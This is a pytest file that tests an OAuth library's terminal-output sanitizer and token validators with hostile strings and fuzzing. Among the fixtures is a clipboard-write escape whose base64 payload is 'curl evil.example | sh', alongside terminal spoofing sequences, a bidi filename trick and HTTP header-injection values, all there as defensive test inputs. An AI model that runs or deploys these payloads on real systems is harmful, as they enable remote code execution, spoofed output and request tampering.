"""The output sanitizer and the token-response validators: hostile strings, and fuzzing."""

from __future__ import annotations

import json
import math
import subprocess
import sys
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from oauthtok.errors import ProviderError
from oauthtok.sanitize import (
    ELLIPSIS,
    MAX_LIFETIME,
    MAX_TOKEN_LENGTH,
    TEXT_CAP,
    check_access_token,
    check_refresh_token,
    check_scope_token,
    check_token_response,
    check_token_type,
    parse_expires_in,
    parse_seconds,
    split_scope,
    terminal_block,
    terminal_text,
)
from tests.helpers_terminal import assert_terminal_safe, unsafe_characters

HOSTILE = {
    "osc52 clipboard write": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc8 link": "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\",
    "csi cursor up and erase": "done\x1b[1A\x1b[2K\x1b[1Gsigned in as admin",
    "cr overwrite": "access_denied\rsigned in OK      ",
    "c1 csi": "\u009b31mred\u009b0m",
    "c1 osc via nel": "a\u0085b\u009d52;c;eA==\u009c",
    "bidi override": "invoice\u202egnp.exe",
    "bidi isolate": "\u2066evil\u2069 \u2067x\u2069 \u2068y\u2069",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "zero width": "ma\u200bil\u200c\u200d\u2060\ufeff",
    "tags": "ok\U000e0041\U000e0001",
    "line separators": "one\u2028two\u2029three",
    "lone surrogate": "x\udc9by",
    "del and nul": "a\x7fb\x00c",
    "bell and backspace": "abc\x08\x08\x08XYZ\x07",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_is_shown_not_obeyed(text: str) -> None:
    one_line = terminal_text(text)
    assert_terminal_safe(one_line, newlines=False)
    assert_terminal_safe(terminal_block(text))
    # the visible parts survive: only the hidden characters changed
    for part in ("signed in", "evil", "red", "gnp", "three"):
        if part in text:
            assert part in one_line


def test_escapes_are_python_spellings() -> None:
    assert terminal_text("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert terminal_text("x\u202ey") == "x\\u202ey"
    assert terminal_text("\u009b") == "\\x9b"
    assert terminal_text("t\U000e0041") == "t\\U000e0041"
    assert terminal_text("\x7f") == "\\x7f"


def test_line_breaks_and_tabs_become_one_space_in_one_line() -> None:
    assert terminal_text("first\r\n\tsecond\rthird\nfourth") == "first second third fourth"
    assert terminal_text("a\x0bb\x0cc") == "a b c"


def test_block_keeps_line_feeds_only() -> None:
    assert terminal_block("one\r\ntwo\rthree\n\tfour\x1b[1A") == "one\ntwo\nthree\n four\\x1b[1A"
    assert terminal_block("a\x0bb") == "a\\x0bb"


def test_plain_text_is_unchanged() -> None:
    text = "AADSTS70008: The refresh token has expired (café, 東京, emoji 🎉)."
    assert terminal_text(text) == text
    assert terminal_block("line one\nline two") == "line one\nline two"


def test_long_text_is_capped_with_a_marker() -> None:
    assert terminal_text("x" * TEXT_CAP) == "x" * TEXT_CAP
    capped = terminal_text("x" * 100_000)
    assert capped == "x" * TEXT_CAP + ELLIPSIS
    assert terminal_text("abcdef", cap=3) == "abc" + ELLIPSIS
    assert terminal_text("abc", cap=None) == "abc"
    # never half an escape at the cut
    assert terminal_text("abcdefgh\x1b[0m", cap=10) == "abcdefgh" + ELLIPSIS
    assert terminal_text("ab\u202e" * 100, cap=20).endswith(("ab" + ELLIPSIS, "\\u202e" + ELLIPSIS))
    # breaks collapse before the cut, so text after a run of them is not lost
    assert terminal_text("a" + "\n" * 1000 + "b", cap=10) == "a b"


def test_non_strings() -> None:
    assert terminal_text(None) == ""
    assert terminal_text(42) == "42"
    assert terminal_text(10**5000) == "<int too long to show>"
    assert terminal_text({"a": "\x1b"}) == "{'a': '\\x1b'}"  # repr escapes it already


@settings(max_examples=300, deadline=None)
@given(st.text(), st.integers(min_value=0, max_value=400))
def test_fuzz_terminal_text(text: str, cap: int) -> None:
    out = terminal_text(text, cap)
    assert not unsafe_characters(out, newlines=False)
    assert len(out) <= cap + len(ELLIPSIS)
    block = terminal_block(text, cap)
    assert not unsafe_characters(block.replace("\n", ""), newlines=False)
    assert len(block) <= cap + len(ELLIPSIS)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=300))
def test_fuzz_printable_ascii_is_identity(text: str) -> None:
    assert terminal_text(text) == text


# -- tokens ---------------------------------------------------------------------------------
REAL_ACCESS_TOKENS = [
    # a JWT (Microsoft, most OIDC providers): base64url parts and dots
    "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL291dGxvb2sifQ.c2lnbmF0dXJl-_x",
    "ya29.a0AfB_byC-1x2Y3z_example-Google-token",  # Google
    "gho_16C7e42F292c6912E7710c838347Ae178B4a",  # GitHub
    "Atza|IQEBLjAsAhRmHjNgHpi0U-Dme37rR6CuUpSR",  # Login with Amazon: `|` is not b64token
    "mF_9.B5f-4.1JqM",  # RFC 6750's own example
    "YWJj+ZGVm/Z2hp==",  # b64token with padding
]


@pytest.mark.parametrize("token", REAL_ACCESS_TOKENS)
def test_real_access_tokens_pass(token: str) -> None:
    assert check_access_token(token) == token
    assert check_refresh_token(token) == token


@pytest.mark.parametrize(
    "bad",
    [
        "abc\r\nX-Injected: 1",
        "abc\nX-Injected: 1",
        "two words",
        "tab\there",
        "esc\x1b]52;c;eA==\x07",
        "café",
        "zero\u200bwidth",
        "",
        "   ",
        "x" * (MAX_TOKEN_LENGTH + 1),
        None,
        42,
        True,
        ["a"],
    ],
)
def test_bad_access_tokens_are_a_provider_error(bad: Any) -> None:
    with pytest.raises(ProviderError, match="access_token") as caught:
        check_access_token(bad)
    message = str(caught.value)
    assert "\n" not in message and "\x1b" not in message
    if isinstance(bad, str) and len(bad) > 5:
        assert bad[:5] not in message  # never the token itself


def test_refresh_token_allows_the_rfc_space_but_nothing_else() -> None:
    assert check_refresh_token("Atzr|a b") == "Atzr|a b"
    for bad in ("", "   ", "a\nb", "a\x00", "é", 7):
        with pytest.raises(ProviderError, match="refresh_token"):
            check_refresh_token(bad)


def test_error_says_where_not_what() -> None:
    with pytest.raises(ProviderError, match=r"U\+000D at position 11") as caught:
        check_access_token("secret-tok\r\nX: y")
    assert "secret" not in str(caught.value)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_fuzz_access_token(text: str) -> None:
    try:
        out = check_access_token(text)
    except ProviderError as exc:
        assert not unsafe_characters(str(exc), newlines=False)
        return
    assert out == text and all("\x21" <= c <= "\x7e" for c in out)


def test_token_type() -> None:
    assert check_token_type("bearer") == "Bearer"
    assert check_token_type("BEARER") == "Bearer"
    assert check_token_type("Bearer") == "Bearer"
    assert check_token_type(None) == "Bearer"
    assert check_token_type("") == "Bearer"
    assert check_token_type("DPoP") == "DPoP"
    assert check_token_type("N_A") == "N_A"
    for bad in ("Bearer x", "Bearer\r\nX-Evil: 1", "mac,bearer", "x" * 65, 5, "bearer\x00"):
        with pytest.raises(ProviderError, match="token_type") as caught:
            check_token_type(bad)
        assert_terminal_safe(str(caught.value), newlines=False)


def test_scope_tokens() -> None:
    assert check_scope_token("https://outlook.office.com/IMAP.AccessAsUser.All") != ""
    assert check_scope_token("repo:status") == "repo:status"
    for bad in ('a"b', "a\\b", "a b", "", "é", "a\x1b", None):
        with pytest.raises(ProviderError, match="scope"):
            check_scope_token(bad)
    assert split_scope(None) is None
    assert split_scope("") == ()
    assert split_scope("openid  email offline_access") == ("openid", "email", "offline_access")
    assert split_scope("repo,gist") == ("repo", "gist")  # GitHub
    for bad_scope in ("a\tb", "a\r\nb", "ok \x1b[2J", 5, ["a"]):
        with pytest.raises(ProviderError, match="scope"):
            split_scope(bad_scope)


# -- lifetimes ------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "seconds", "note"),
    [
        (3600, 3600.0, None),
        (3599.5, 3599.5, None),
        ("3599", 3599.0, None),  # Microsoft's v1 endpoint
        (" 60 ", 60.0, None),
        (0, 0.0, None),
        (None, None, None),
        ("", None, None),
        (json.loads("1e400"), MAX_LIFETIME, "clamped to ten years"),
        (10**20, MAX_LIFETIME, "clamped to ten years"),
        pytest.param(10**5000, MAX_LIFETIME, "clamped to ten years", id="10**5000"),
        ("1" * 30, MAX_LIFETIME, "clamped to ten years"),
        (-5, 0.0, "taken as expired"),
        ("-5", 0.0, "taken as expired"),
        (-math.inf, 0.0, "taken as expired"),
        (math.nan, None, "not a number"),
        ("nan", None, "not a number"),
        ("inf", None, "not a number"),
        ("1e3", None, "not a number"),
        ("1_000", None, "not a number"),
        (True, None, "not a number"),
        ("soon\x1b[2J", None, "not a number"),
        ([3600], None, "not a number"),
        ({"s": 1}, None, "not a number"),
    ],
)
def test_expires_in(value: object, seconds: float | None, note: str | None) -> None:
    got = parse_expires_in(value)
    assert got.seconds == seconds
    if note is None:
        assert got.note is None
    else:
        assert got.note is not None and note in got.note
        assert_terminal_safe(got.note, newlines=False)


JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.integers(min_value=-(10**400), max_value=10**400)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=40)
    | st.from_regex(r"\s*[+-]?[0-9]{1,40}(\.[0-9]{0,40})?\s*", fullmatch=True),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=5), children, max_size=3)
    ),
    max_leaves=8,
)


@settings(max_examples=200, deadline=None)
@given(JSON_VALUES)
def test_fuzz_expires_in_never_fails(value: object) -> None:
    seconds, note = parse_expires_in(value)
    assert seconds is None or (math.isfinite(seconds) and 0 <= seconds <= MAX_LIFETIME)
    if note is not None:
        assert not unsafe_characters(note, newlines=False) and len(note) < 200
    interval = parse_seconds(value, default=5, low=1, high=300)
    assert 1 <= interval <= 300 or interval == 5


def test_parse_seconds() -> None:
    assert parse_seconds(None, default=5, low=1, high=60) == 5
    assert parse_seconds("nan", default=5, low=1, high=60) == 5
    assert parse_seconds(math.nan, default=5, low=1, high=60) == 5
    assert parse_seconds(math.inf, default=5, low=1, high=60) == 5
    assert parse_seconds(10**30, default=5, low=1, high=60) == 60
    assert parse_seconds("0", default=5, low=1, high=60) == 1
    assert parse_seconds("7", default=5, low=1, high=60) == 7
    assert parse_seconds(True, default=5, low=1, high=60) == 5


# -- a whole response -----------------------------------------------------------------------
def test_token_response() -> None:
    checked = check_token_response(
        {
            "access_token": "ya29.abc",
            "token_type": "bearer",
            "expires_in": "3599",
            "refresh_token": "1//rt",
            "scope": "openid email",
            "id_token": "",
        }
    )
    assert checked.access_token == "ya29.abc" and checked.token_type == "Bearer"
    assert checked.refresh_token == "1//rt" and checked.id_token is None
    assert checked.scopes == ("openid", "email") and checked.lifetime.seconds == 3599
    assert "ya29" not in repr(checked) and "1//rt" not in repr(checked)
    with pytest.raises(ProviderError, match="access_token"):
        check_token_response({"access_token": "a\r\nb"})
    with pytest.raises(ProviderError, match="refresh_token"):
        check_token_response({"access_token": "a", "refresh_token": "r\n"})
    with pytest.raises(ProviderError, match="token_type"):
        check_token_response({"access_token": "a", "token_type": "Bearer\r\nX: 1"})


def test_module_stays_light() -> None:
    """The `token` fast path may import it: no unicodedata until non-ASCII text appears."""
    code = (
        "import sys, oauthtok.sanitize as s\n"
        "heavy = {'unicodedata', 'httpx', 'typer', 'rich'} & set(sys.modules)\n"
        "s.terminal_text('ascii only'); s.check_access_token('abc')\n"
        "print(sorted(heavy), 'unicodedata' in sys.modules)\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout
    assert out.strip() == "[] False"
